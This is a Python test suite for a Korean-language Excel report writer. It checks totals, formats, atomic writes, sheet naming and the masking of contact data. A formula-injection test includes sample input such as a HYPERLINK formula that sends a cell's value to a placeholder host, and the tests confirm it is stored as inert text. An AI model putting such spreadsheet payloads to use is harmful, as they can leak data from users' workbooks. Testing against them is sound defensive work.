"""The workbook writer and the four workbooks: safe, exact, deterministic, readable."""

from __future__ import annotations

import datetime as dt
import os
import re
import tempfile
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from ledgerflow.errors import LedgerflowError, OutputError
from ledgerflow.evaluation import evaluate
from ledgerflow.metrics import profitability
from ledgerflow.report import evaluation as evaluation_report
from ledgerflow.report import outputs, workbook
from ledgerflow.report import profitability as profitability_report
from ledgerflow.report.workbook import (
    ColumnSum,
    Ratio,
    SheetSpec,
    clean_sheet_name,
    display_width,
    write_workbook,
)
from ledgerflow.tables import Reject, Skip
from test_profitability_detail import (  # noqa: F401 - fixtures
    MARCH,
    master,
    sales,
)
from test_profitability_detail import config as profit_config

CREATED = dt.datetime(2024, 3, 31)
CASE16_COLUMNS = [
    "partner_code",
    "partner_name",
    "revenue",
    "cost",
    "gross_profit",
    "gross_margin",
    "memo",
]
LIGHT_RED = "FFFFC7CE"


def sheet_xml(path: Path, number: int = 1) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read(f"xl/worksheets/sheet{number}.xml").decode("utf-8")


def formula_cells(xml: str) -> dict[str, tuple[str, str]]:
    """Cell reference -> (formula, cached value) of every <f> in a sheet's XML."""
    found = re.findall(r'<c r="([A-Z]+\d+)"[^>]*><f>([^<]*)</f><v>([^<]*)</v></c>', xml)
    assert xml.count("<f>") == len(found), "a formula without a cached value"
    return {ref: (formula, value) for ref, formula, value in found}


def rows(path: Path, sheet: int = 0, data_only: bool = False) -> list[tuple]:
    book = openpyxl.load_workbook(path, data_only=data_only)
    return list(book.worksheets[sheet].iter_rows(values_only=True))


def tiny_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "partner_code": pd.array(["00123", "20611", None], dtype="string"),
            "partner_name": pd.array(
                ["(주)한빛상사", "+플러스상사", "다온물산"], "string"
            ),
            "revenue": pd.array([12_500_000, -60_000, None], dtype="Float64"),
            "gross_margin": pd.array([0.18, float("inf"), None], dtype="Float64"),
            "last_txn_date": pd.to_datetime(["2024-03-05", None, "2024-02-29"]),
            "is_prune_candidate": pd.array([False, True, None], dtype="boolean"),
        }
    )


# Case 16: text that looks like a formula


@pytest.fixture(scope="module")
def case16_frame(cases_dir) -> pd.DataFrame:
    source = pd.read_csv(
        cases_dir / "16-formula-injection-output" / "partner_evaluation_input.csv",
        dtype=str,
        keep_default_na=False,
        encoding="utf-8-sig",
    )
    frame = pd.DataFrame(
        {
            "partner_code": source["거래처코드"].astype("string"),
            "partner_name": source["거래처명"].astype("string"),
            "revenue": pd.to_numeric(source["매출액"]).astype("Float64"),
            "cost": pd.to_numeric(source["매출원가"]).astype("Float64"),
            "gross_profit": pd.to_numeric(source["매출이익"]).astype("Float64"),
            "memo": source["비고"].astype("string"),
        }
    )
    frame["gross_margin"] = frame["gross_profit"] / frame["revenue"]
    return frame


@pytest.fixture(scope="module")
def case16_book(case16_frame, tmp_path_factory) -> Path:
    frame = case16_frame
    total = {key: ColumnSum(float(frame[key].sum())) for key in CASE16_COLUMNS[2:5]}
    margin = total["gross_profit"].value / total["revenue"].value
    total["gross_margin"] = Ratio("gross_profit", "revenue", margin)
    spec = SheetSpec(
        "evaluation",
        frame,
        CASE16_COLUMNS,
        highlight=frame["gross_profit"] < 0,
        total=total,
        title_values={"year": 2024},
    )
    path = tmp_path_factory.mktemp("case16") / "evaluation_2024.xlsx"
    return write_workbook(path, [spec], lang="en", created=CREATED)


def test_case16_text_is_stored_exactly_as_text(case16_book):
    table = rows(case16_book)
    names = [row[1] for row in table[1:8]]
    memos = [row[6] for row in table[1:8]]
    assert names == [
        "(주)한빛상사",
        "+플러스상사",
        "@홈마트",
        "-마이너스유통-",
        "다온물산",
        "새솔유통(주)",
        "미래테크",
    ]
    assert memos == [
        '=HYPERLINK("http://example.invalid/?d="&B2,"상세보기")',
        "신규 거래처",
        "=1+1 확인 요망",
        "==== 4월 단가 변경 ====",
        "-반품 처리 완료",
        "\t=SUM(1,2)",
        "http://example.invalid/contract/10234",
    ]
    assert [row[0] for row in table[1:8]] == [
        "00123",
        "20611",
        "20612",
        "20613",
        "00457",
        "01208",
        "10234",
    ]


def test_case16_no_formula_from_input_and_no_link(case16_book):
    xml = sheet_xml(case16_book)
    # the only formulas are the total row's (row 9), each with its result cached
    assert set(formula_cells(xml)) == {"C9", "D9", "E9", "F9"}
    assert "<hyperlink" not in xml
    with zipfile.ZipFile(case16_book) as archive:
        assert not [n for n in archive.namelist() if "externalLink" in n]


def test_case16_numbers_stay_numbers_and_totals_come_from_totals(case16_book):
    table = rows(case16_book, data_only=True)
    assert table[0] == (
        "Partner code",
        "Partner name",
        "Revenue",
        "Cost",
        "Gross profit",
        "Gross margin %",
        "Memo",
    )
    losses = {row[0]: row[4] for row in table[1:8] if row[4] < 0}
    assert losses == {"20612": -60_000, "20613": -55_000, "00457": -55_000}
    assert all(isinstance(v, int | float) for v in losses.values())
    total = table[8]
    assert total[:5] == ("Total", None, 29_505_000, 25_630_000, 3_875_000)
    assert round(total[5], 3) == 0.131  # 3,875,000 / 29,505,000, not a mean of rows
    assert f"{total[5]:.1%}" == "13.1%"


def test_case16_total_formulas_cache_their_results(case16_book):
    cells = formula_cells(sheet_xml(case16_book))
    assert cells["C9"] == ("SUM(C2:C8)", "29505000.0")
    assert cells["D9"] == ("SUM(D2:D8)", "25630000.0")
    assert cells["E9"] == ("SUM(E2:E8)", "3875000.0")
    assert cells["F9"][0] == "E9/C9"
    assert float(cells["F9"][1]) == pytest.approx(3_875_000 / 29_505_000)


def test_case16_loss_rows_are_light_red_and_formats_set(case16_book):
    sheet = openpyxl.load_workbook(case16_book).worksheets[0]
    red = [r for r in range(2, 9) if sheet.cell(r, 1).fill.fgColor.rgb == LIGHT_RED]
    assert red == [4, 5, 6]  # 20612, 20613, 00457
    assert sheet.cell(2, 3).number_format == "#,##0"
    assert sheet.cell(2, 6).number_format == "0.0%"
    assert sheet.cell(9, 3).font.b
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:G8"


# Values: missing, infinite, dates, booleans, long text


def test_missing_values_are_empty_and_infinity_gets_a_note(tmp_path):
    columns = list(tiny_frame().columns)
    path = write_workbook(
        tmp_path / "x.xlsx",
        [SheetSpec("evaluation", tiny_frame(), columns, title_values={"year": 2024})],
        lang="en",
        created=CREATED,
    )
    table = rows(path)
    assert table[1] == (
        "00123",
        "(주)한빛상사",
        12_500_000,
        0.18,
        dt.datetime(2024, 3, 5),
        False,
    )
    assert table[2] == ("20611", "+플러스상사", -60_000, None, None, True)
    assert table[3] == (None, "다온물산", None, None, dt.datetime(2024, 2, 29), None)
    assert table[5] == ("Notes", None, None, None, None, None)
    assert table[6][0] == "Gross margin %: 1 infinite value(s) left empty (row 3)."
    assert (
        openpyxl.load_workbook(path).worksheets[0]["E2"].number_format == "yyyy-mm-dd"
    )


def test_datetimes_with_a_zone_are_shown_in_seoul_time(tmp_path):
    frame = pd.DataFrame(
        {"doc_date": pd.to_datetime(["2024-03-31 16:30"]).tz_localize("UTC")}
    )
    path = write_workbook(
        tmp_path / "x.xlsx",
        [SheetSpec("rejects", frame, ["doc_date"])],
        lang="ko",
        created=CREATED,
    )
    assert rows(path)[1] == (dt.datetime(2024, 4, 1, 1, 30),)  # UTC+9


def test_text_over_excel_limit_is_cut_with_a_note(tmp_path):
    frame = pd.DataFrame({"memo": ["가" * 40_000, "😀" * 20_000, "ok"]})
    path = write_workbook(
        tmp_path / "x.xlsx",
        [SheetSpec("rejects", frame, ["memo"])],
        lang="ko",
        created=CREATED,
    )
    table = rows(path)
    assert table[1][0] == "가" * 32_767
    assert table[2][0] == "😀" * 16_383  # 32,767 UTF-16 units, no half emoji
    assert table[3][0] == "ok"
    assert (
        table[6][0]
        == "비고: 2개 셀이 Excel 한도인 32,767자를 넘어 잘렸습니다 (행 2, 3)."
    )


def test_foreign_currency_money_shows_decimals(tmp_path):
    frame = pd.DataFrame({"revenue": pd.array([12.5, 3.0], dtype="Float64")})
    krw = frame.copy()
    krw.attrs["currency"] = "KRW"
    path = write_workbook(
        tmp_path / "x.xlsx",
        [
            SheetSpec("rejects", frame, ["revenue"]),
            SheetSpec("rejects", krw, ["revenue"]),
        ],
        lang="en",
        created=CREATED,
    )
    book = openpyxl.load_workbook(path)
    assert book.worksheets[0]["A2"].number_format == "#,##0.00"
    assert book.worksheets[1]["A2"].number_format == "#,##0"
    assert book.sheetnames == ["Rejected rows", "Rejected rows (2)"]


def test_column_widths_count_hangul_double():
    assert display_width("Partner") == 7
    assert display_width("거래처명") == 8
    assert display_width("(주)한빛") == 8


def test_widths_follow_the_longest_value(tmp_path):
    frame = pd.DataFrame({"partner_name": ["가나다라마바사아자차", "ab"]})
    path = write_workbook(
        tmp_path / "x.xlsx",
        [SheetSpec("rejects", frame, ["partner_name"])],
        lang="en",
        created=CREATED,
    )
    sheet = openpyxl.load_workbook(path).worksheets[0]
    assert sheet.column_dimensions["A"].width == pytest.approx(22, abs=1)


def test_only_listed_columns_are_written_in_order(tmp_path):
    frame = pd.DataFrame(
        {"secret": ["x"], "partner_name": ["A"], "partner_code": ["1"]}
    )
    path = write_workbook(
        tmp_path / "x.xlsx",
        [SheetSpec("rejects", frame, ["partner_code", "absent", "partner_name"])],
        lang="ko",
        created=CREATED,
    )
    assert rows(path)[:2] == [("거래처코드", "거래처명"), ("1", "A")]


def test_a_total_that_disagrees_with_its_rows_is_written_as_a_value(tmp_path):
    frame = pd.DataFrame({"partner_name": ["A", "B"], "revenue": [1.0, 2.0]})
    spec = SheetSpec(
        "rejects",
        frame,
        ["partner_name", "revenue"],
        total={"revenue": ColumnSum(4.0)},
    )
    path = write_workbook(tmp_path / "x.xlsx", [spec], lang="en", created=CREATED)
    assert "<f>" not in sheet_xml(path)
    assert rows(path)[3] == ("Total", 4)


def test_empty_frame_gets_header_and_a_note(tmp_path):
    frame = pd.DataFrame({"file": pd.Series(dtype="string")})
    path = write_workbook(
        tmp_path / "x.xlsx",
        [SheetSpec("rejects", frame, ["file"], total={"file": None})],
        lang="ko",
        created=CREATED,
    )
    assert rows(path)[0] == ("파일",)
    assert ("해당하는 행이 없습니다.",) in rows(path)


def test_highlight_must_match_the_rows(tmp_path):
    frame = pd.DataFrame({"file": ["a", "b"]})
    spec = SheetSpec("rejects", frame, ["file"], highlight=pd.Series([True]))
    with pytest.raises(ValueError, match="highlight has 1 values for 2 rows"):
        write_workbook(tmp_path / "x.xlsx", [spec], lang="ko", created=CREATED)
    assert list(tmp_path.iterdir()) == []


# Sheet names


@pytest.mark.parametrize(
    ("name", "taken", "expected"),
    [
        ("월간 2024-03", set(), "월간 2024-03"),
        ("a/b\\c:d*e?f[g]h", set(), "a_b_c_d_e_f_g_h"),
        ("'quoted'", set(), "quoted"),
        ("x" * 40, set(), "x" * 31),
        ("Notes", {"notes"}, "Notes (2)"),
        ("x" * 40, {"x" * 31}, "x" * 27 + " (2)"),
        ("", set(), "Sheet"),
        ("History", set(), "History_"),
    ],
)
def test_clean_sheet_name(name, taken, expected):
    assert clean_sheet_name(name, taken) == expected
    assert expected.lower() in taken


def test_sheet_names_are_unique_across_three_repeats():
    taken: set[str] = set()
    names = [clean_sheet_name("Report", taken) for _ in range(3)]
    assert names == ["Report", "Report (2)", "Report (3)"]


# Atomic, deterministic, errors


def write_tiny(path: Path, lang: str = "en") -> Path:
    frame = tiny_frame()
    spec = SheetSpec(
        "evaluation",
        frame,
        list(frame.columns),
        highlight=frame["is_prune_candidate"],
        total={"revenue": ColumnSum(12_440_000.0)},
        notes=["a note"],
        title_values={"year": 2024},
    )
    return write_workbook(path, [spec], lang=lang, created=CREATED)


def test_same_frames_give_the_same_bytes(tmp_path):
    first = write_tiny(tmp_path / "a" / "x.xlsx").read_bytes()
    second = write_tiny(tmp_path / "b" / "x.xlsx").read_bytes()
    assert first == second
    with zipfile.ZipFile(tmp_path / "a" / "x.xlsx") as archive:
        core = archive.read("docProps/core.xml").decode()
    assert '<dcterms:created xsi:type="dcterms:W3CDTF">2024-03-31T00:00:00Z' in core


def test_large_workbooks_stream_to_the_same_content(tmp_path, monkeypatch):
    in_memory = rows(write_tiny(tmp_path / "a.xlsx"))
    monkeypatch.setattr(workbook, "CONSTANT_MEMORY_CELLS", 0)
    assert rows(write_tiny(tmp_path / "b.xlsx")) == in_memory


def test_failure_midway_leaves_the_previous_file_intact(tmp_path, monkeypatch):
    path = write_tiny(tmp_path / "x.xlsx")
    before = path.read_bytes()
    calls = []

    def failing(sheet, row, col, value, style):
        calls.append(row)
        if len(calls) == 5:
            raise RuntimeError("disk unplugged")
        sheet.write(row, col, value, style)

    monkeypatch.setattr(workbook, "_write_value", failing)
    with pytest.raises(RuntimeError, match="disk unplugged"):
        write_tiny(path, lang="ko")
    assert path.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.xlsx"]


def test_file_open_elsewhere_gives_output_error_and_keeps_the_old_file(
    tmp_path, monkeypatch
):
    path = write_tiny(tmp_path / "x.xlsx")
    before = path.read_bytes()

    def locked(source, target):
        raise PermissionError(13, "Permission denied", str(target))

    monkeypatch.setattr(os, "replace", locked)
    with pytest.raises(OutputError, match=r"x\.xlsx: cannot write the file .*close it"):
        write_tiny(path, lang="ko")
    assert path.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.xlsx"]


def test_read_only_folder_gives_output_error(tmp_path, monkeypatch):
    folder = tmp_path / "out"
    folder.mkdir()
    folder.chmod(0o555)
    if os.access(folder, os.W_OK):
        # running as root: permissions do not stop us, so make the OS answer as it
        # would for any other user
        def denied(*args, **kwargs):
            raise PermissionError(13, "Permission denied")

        monkeypatch.setattr(tempfile, "mkstemp", denied)
    try:
        with pytest.raises(OutputError) as raised:
            write_tiny(folder / "x.xlsx")
    finally:
        folder.chmod(0o755)
    message = str(raised.value)
    assert str(folder / "x.xlsx") in message
    assert "Permission denied" in message
    assert f"check the folder {folder} exists and is writable" in message
    assert isinstance(raised.value, OSError)
    assert list(folder.iterdir()) == []


# The four workbooks


def profit_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "partner_id": pd.array(["P0001", "P0002"], dtype="string"),
            "partner_code": pd.array(["00123", "00457"], dtype="string"),
            "partner_name": pd.array(["한빛상사", "다온물산"], dtype="string"),
            "phone": pd.array(["010-1234-5678", "02-555-0101"], dtype="string"),
            "email": pd.array(["kim@hanbit.example", "lee@daon.example"], "string"),
            "revenue": pd.array([1_000_000, 3_000_000], dtype="Float64"),
            "cost": pd.array([None, None], dtype="Float64"),
            "gross_profit": pd.array([None, None], dtype="Float64"),
            "gross_margin": pd.array([None, None], dtype="Float64"),
            "revenue_share": pd.array([0.25, 0.75], dtype="Float64"),
            "n_lines": pd.array([3, 5], dtype="Int64"),
            "receivable_balance": pd.array([500_000, None], dtype="Float64"),
        }
    )


@pytest.fixture
def no_cost_result(sales, master):  # noqa: F811
    """The ledger of test_profitability_detail without any cost or receivables."""
    return profitability(
        sales.drop(columns="cost_amount"), None, master, MARCH, profit_config()
    )


def write_profit(result, path: Path, lang: str) -> Path:
    return profitability_report.write_profitability_workbook(
        result,
        path,
        lang=lang,
        period=MARCH,
        created=CREATED,
        period_reason="period_requested",
    )


def test_profitability_headers_period_and_empty_figures(no_cost_result, tmp_path):
    path = write_profit(no_cost_result, tmp_path / "p.xlsx", "en")
    book = openpyxl.load_workbook(path, data_only=True)
    assert book.sheetnames[1:3] == ["Month 2024-03", "YTD 2024-01 to 03"]
    table = list(book["Month 2024-03"].iter_rows(values_only=True))
    assert table[0][:9] == (
        "Partner ID",
        "Partner code",
        "Partner name",
        "Revenue",
        "Cost",
        "Gross profit",
        "Gross margin %",
        "Receivable balance",
        "Overdue amount",
    )
    # A in March: 100,000 + 50,000 − a 20,000 return; no cost, no receivables:
    # those figures stay empty, never 0, in the rows and in the total
    body = {r[0]: r for r in table[1:] if r[0] not in (None, "Total")}
    assert body["A"][:9] == ("A", "0A", "상사A", 130_000, *[None] * 5)
    (total,) = [r for r in table if r[0] == "Total"]
    assert total[3:9] == (170_000, *[None] * 5)
    notes = [r[0] for r in table if r[0]]
    assert "Month: 2024-03-01 ~ 2024-03-31" in " ".join(notes)
    gaps = [r[0] for r in book["Assumptions and gaps"].iter_rows(values_only=True)]
    assert (
        "The sales lines carry no cost, so cost, gross profit and gross margin are "
        "left empty (not 0); set [profitability] default_margin to assume one."
    ) in gaps
    assert (
        "No receivables were given, so receivable balance and overdue amount are "
        "left empty (not 0)."
    ) in gaps


def test_shared_workbooks_never_carry_contacts(sales, master, tmp_path):  # noqa: F811
    master = master.assign(
        phone=pd.array(["010-1234-5678"] + [None] * 6, dtype="string"),
        email=pd.array(["kim@hanbit.example"] + [None] * 6, dtype="string"),
    )
    sales = sales.assign(phone="02-555-0101", email="lee@daon.example")
    result = profitability(sales, None, master, MARCH, profit_config())
    write_profit(result, tmp_path / "p.xlsx", "ko")
    scores = evaluate(sales, None, master, 2024, profit_config())
    evaluation_report.write_evaluation(
        scores, tmp_path / "e.xlsx", lang="ko", created=CREATED
    )
    cards = evaluation_report.write_scorecards(
        scores, tmp_path, lang="ko", created=CREATED, limit=2
    )
    rejects = [Reject("p.csv", "", 7, "phone", "010-1234-5678", "phone_format")]
    outputs.write_rejects(
        rejects, [], [], tmp_path / "r.xlsx", lang="ko", created=CREATED
    )
    assert len(cards) == 2
    for path in (tmp_path / "p.xlsx", tmp_path / "e.xlsx", *cards, tmp_path / "r.xlsx"):
        with zipfile.ZipFile(path) as archive:
            text = "".join(
                archive.read(n).decode()
                for n in archive.namelist()
                if n.endswith(".xml")
            )
        for secret in ("1234-5678", "555-0101", "hanbit.example", "daon.example"):
            assert secret not in text, (path.name, secret)
        if path.name != "r.xlsx":  # the rejects sheet may name the column
            for header in ("Phone", "Email", "전화번호", "이메일"):
                assert header not in text, (path.name, header)
    assert rows(tmp_path / "r.xlsx")[1][4] == "010-****-****"


def test_contact_columns_are_refused_in_shared_workbooks():
    with pytest.raises(
        LedgerflowError, match="evaluation workbook: columns email, phone"
    ):
        outputs.check_shareable(
            ["partner_code", "phone", "email"], "evaluation workbook"
        )
    for columns in (
        profitability_report.MONTH_COLUMNS,
        profitability_report.WINDOW_SHEET_COLUMNS,
        evaluation_report.SCORECARD_COLUMNS,
        evaluation_report.BREAKDOWN_SHOWN,
        evaluation_report.PARTNER_CARD,
        outputs.REJECT_COLUMNS,
        outputs.SKIP_COLUMNS,
        outputs.REFUSED_COLUMNS,
    ):
        outputs.check_shareable(columns, "shared")


def test_master_is_internal_and_shows_contacts(tmp_path):
    partners = profit_frame().assign(
        partner_codes=[["00123", "123"], ["00457"]],
        first_txn_date=pd.to_datetime(["2023-01-05", "2024-02-01"]),
    )
    conflicts = pd.DataFrame({"partner_id": ["P0001"], "field": ["region"]})
    path = outputs.write_partner_master(
        partners, tmp_path / "m.xlsx", lang="en", created=CREATED, conflicts=conflicts
    )
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Partner master", "Conflicts"]
    table = list(book.worksheets[0].iter_rows(values_only=True))
    assert table[0] == (
        "Partner ID",
        "Partner code",
        "All partner codes",
        "Partner name",
        "Phone",
        "Email",
        "First transaction",
    )
    assert table[1] == (
        "P0001",
        "00123",
        "00123; 123",
        "한빛상사",
        "010-1234-5678",
        "kim@hanbit.example",
        dt.datetime(2023, 1, 5),
    )


def test_rejects_workbook(tmp_path):
    rejects = [
        Reject("매출.xlsx", "매출", 14, "supply_amount", "1.2.3", "amount_format"),
        Reject("매출.xlsx", "매출", 15, "비고", "=1+1", "not_a_rule_yet", "x"),
        Reject("ar.csv", "", 3, None, "  007 ", "negative_gross_profit", "-5"),
    ]
    skipped = [Skip("매출.xlsx", "매출", 20, "grade_D", "합계")]
    refused = [Reject("secret.xlsx", "", None, None, None, "grade_A", "암호")]
    path = outputs.write_rejects(
        rejects, skipped, refused, tmp_path / "r.xlsx", lang="en", created=CREATED
    )
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Rejected rows", "Skipped rows", "Refused files"]
    table = list(book.worksheets[0].iter_rows(values_only=True))
    assert table[0] == ("File", "Sheet", "Row", "Column", "Value", "Rule", "Reason")
    assert table[1][:6] == (
        "매출.xlsx",
        "매출",
        14,
        "Supply amount",
        "1.2.3",
        "amount_format",
    )
    assert table[2][3:] == ("비고", "=1+1", "not_a_rule_yet", "not_a_rule_yet (x)")
    assert table[3] == (
        "ar.csv",
        "",
        3,
        None,
        "  007 ",
        "negative_gross_profit",
        "Negative gross profit (-5)",
    )
    skipped_rows = list(book.worksheets[1].iter_rows(values_only=True))
    assert skipped_rows[:2] == [
        ("File", "Sheet", "Row", "Reason"),
        ("매출.xlsx", "매출", 20, "Grade D (합계)"),
    ]
    refused_rows = list(book.worksheets[2].iter_rows(values_only=True))
    assert refused_rows[:2] == [("File", "Reason"), ("secret.xlsx", "Grade A (암호)")]
    assert "<f>" not in sheet_xml(path)


def test_stage_notes_are_translated_and_not_repeated(no_cost_result, tmp_path):
    path = write_profit(no_cost_result, tmp_path / "p.xlsx", "ko")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames[-1] == "가정과 자료 공백"
    gaps = [r[0] for r in book.worksheets[-1].iter_rows(min_row=2, values_only=True)]
    assert len(gaps) == len(set(gaps))  # each note once
    assert [n for n in gaps if n.startswith("원가 자료가 없어 원가, 매출총이익")]
    assert (
        "채권 자료가 없어 채권 잔액과 연체 금액을 빈 칸으로 두었습니다 (0이 아님)."
        in gaps
    )
    # every note of the metrics stage is a sentence, never "<code>: ..."
    assert not [n for n in gaps if re.match(r"^[a-z_]+: ", n)]


def test_given_empty_totals_stay_empty_and_margin_needs_revenue(tmp_path):
    frame = pd.DataFrame(
        {
            "partner_code": pd.array(["A", "B", "C"], dtype="string"),
            "revenue": pd.array([1_000.0, 0.0, -50.0], dtype="Float64"),
            "cost": pd.array([600.0, None, 10.0], dtype="Float64"),
            "gross_profit": pd.array([400.0, None, -60.0], dtype="Float64"),
            "gross_margin": pd.array([0.4, None, None], dtype="Float64"),
        }
    )
    # cost known for some partners only: the metrics stage leaves the total empty
    given = {"revenue": 950.0, "cost": pd.NA, "gross_profit": 340.0}
    given["gross_margin"] = 340 / 950
    total = profitability_report._total(frame, given, list(frame.columns))
    assert total["revenue"] == ColumnSum(950.0)
    assert total["cost"] is None
    assert total["gross_profit"] == ColumnSum(340.0)
    assert total["gross_margin"] == Ratio("gross_profit", "revenue", 340 / 950)
    # no positive revenue in the totals: the metrics stage gives no margin
    nothing = profitability_report._total(
        frame, {"gross_margin": None}, ["gross_margin"]
    )
    assert nothing == {"gross_margin": Ratio("gross_profit", "revenue", None)}
    notes = outputs.no_data_notes(frame, list(frame.columns), "en")
    assert notes == [
        "Cost: left empty (not 0) for 1 partner(s) with no data.",
        "Gross profit: left empty (not 0) for 1 partner(s) with no data.",
        "Gross margin %: left empty for 2 partner(s) whose Revenue is 0 or less.",
    ]
    path = write_workbook(
        tmp_path / "t.xlsx",
        [SheetSpec("rejects", frame, list(frame.columns), total=total)],
        lang="ko",
        created=CREATED,
    )
    assert rows(path, data_only=True)[4] == ("합계", 950, None, 340, 340 / 950)


def test_master_codes_are_shown_as_words(tmp_path, monkeypatch):
    from ledgerflow import labels

    folder = tmp_path / "labels"
    folder.mkdir()
    for name in ("columns.toml", "report.toml"):
        (folder / name).write_bytes((labels.FOLDER / name).read_bytes())
    (folder / "master.toml").write_text(
        '[rules.match_rule_single]\nko = "단일 행"\nen = "Single row"\n'
        '[rules.quality_stale]\nko = "오래됨"\nen = "Stale"\n',
        encoding="utf-8",
    )
    catalogue = labels.load_catalogue(folder)
    monkeypatch.setattr(labels, "_catalogue", lambda: catalogue)
    partners = pd.DataFrame(
        {
            "partner_id": pd.array(["P0001"], dtype="string"),
            "brn_status": pd.array(["zz_unlisted"], dtype="string"),
            "match_rule": pd.array(["single"], dtype="string"),
            "quality_issues": pd.array(["stale; zz_new_issue"], dtype="string"),
        }
    )
    links = pd.DataFrame({"partner_id": ["P0001"], "match_rule": ["single"]})
    path = outputs.write_partner_master(
        partners, tmp_path / "m.xlsx", lang="en", created=CREATED, links=links
    )
    assert rows(path)[:2] == [
        ("Partner ID", "BRN status", "Match rule", "Quality issues"),
        ("P0001", "zz_unlisted", "Single row", "Stale; zz_new_issue"),
    ]
    assert rows(path, sheet=1)[1] == ("P0001", "Single row")


def test_master_shows_full_business_numbers_with_dashes(tmp_path):
    import openpyxl

    from ledgerflow.report.outputs import write_partner_master

    partners = pd.DataFrame(
        {
            "partner_id": ["P000001", "P000002"],
            "partner_code": pd.array(["00123", "00124"], dtype="string"),
            "partner_name": ["(주)한빛상사", "다온물산"],
            "brn": pd.array(["5642384027", "126811"], dtype="string"),
        }
    )
    path = write_partner_master(
        partners, tmp_path / "m.xlsx", lang="en", created=CREATED
    )
    sheet = openpyxl.load_workbook(path).worksheets[0]
    column = [c.value for c in sheet[1]].index("Business registration no.")
    assert [sheet.cell(r, column + 1).value for r in (2, 3)] == [
        "564-23-84027",
        "126811",  # a partial (masked) number stays as given
    ]


def test_words_of_works_out_each_distinct_value_once():
    """Six values, four distinct ones as (type, value): "A", 1, True, ["x"] (a list
    cannot be a key, so it is worked out each time); missing values kept as they
    are when asked."""
    calls = []

    def word(value):
        calls.append(value)
        return f"<{value}>"

    values = ["A", 1, "A", True, ["x"], 1, ["x"]]
    assert outputs.words_of(values, word) == [
        "<A>",
        "<1>",
        "<A>",
        "<True>",
        "<['x']>",
        "<1>",
        "<['x']>",
    ]
    assert calls == ["A", 1, True, ["x"], ["x"]]

    calls.clear()
    kept = outputs.words_of(["A", None, pd.NA, "A"], word, keep_missing=True)
    assert kept == ["<A>", None, pd.NA, "<A>"]
    assert calls == ["A"]
    column = outputs.words_column(
        pd.Series(pd.array(["b", None], dtype="string"), index=[7, 3]),
        word,
        keep_missing=True,
    )
    assert column.index.tolist() == [7, 3]
    assert str(column.dtype) == "string"
    assert column.tolist() == ["<b>", pd.NA]
